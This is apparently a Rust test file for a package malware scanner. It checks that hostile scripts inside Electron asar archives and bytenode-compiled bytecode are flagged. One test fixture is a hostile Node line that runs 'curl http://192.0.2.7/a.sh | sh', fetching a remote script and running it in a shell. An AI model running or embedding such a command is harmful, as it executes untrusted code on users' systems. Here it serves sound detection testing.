//! Archives of Electron, and bytecode of script engines.

use packguard_sdk::Severity;

use super::{analyze, found};

fn asar(name: &str, content: &str) -> Vec<u8> {
    let json = format!(
        r#"{{"files":{{"{name}":{{"size":{},"offset":"0"}}}}}}"#,
        content.len()
    );
    let size = u32::try_from(json.len()).unwrap();
    let padded = size.next_multiple_of(4);
    let mut file = Vec::new();
    for number in [4, padded + 8, padded + 4, size] {
        file.extend(number.to_le_bytes());
    }
    file.extend(json.bytes());
    file.resize(file.len() + usize::try_from(padded - size).unwrap(), b' ');
    file.extend(content.bytes());
    file
}

#[test]
fn scripts_in_archives_of_electron_are_searched() {
    let hostile = "require('child_process').exec('curl http://192.0.2.7/a.sh | sh')";
    let rules = found(&[("resources/app.asar", asar("main.js", hostile))]);
    assert_eq!(
        rules,
        [("bytecode-archived-script".to_owned(), Severity::High)]
    );
    let honest = "require('child_process').execFile('git', ['status'])";
    assert_eq!(
        found(&[("resources/app.asar", asar("main.js", honest))]),
        []
    );
}

#[test]
fn a_broken_archive_is_a_problem() {
    let mut file = asar("main.js", "1");
    file[16] = b'!';
    let analysis = analyze(&[("resources/app.asar", file)]);
    assert_eq!(analysis.problems().len(), 1);
}

#[test]
fn cached_scripts_weigh_where_something_loads_them() {
    let cache = b"\x5B\x07\xDE\xC0\0\0\0\0".to_vec();
    let loader = b"require('bytenode'); require('./main.jsc')".to_vec();
    let rule = "bytecode-hidden-script".to_owned();
    assert_eq!(
        found(&[
            ("package/main.jsc", cache.clone()),
            ("package/index.js", loader)
        ]),
        [(rule.clone(), Severity::Medium)]
    );
    assert_eq!(
        found(&[("package/main.jsc", cache)]),
        [(rule, Severity::Low)]
    );
    assert_eq!(found(&[("package/a.jsc", b"plain text".to_vec())]), []);
}
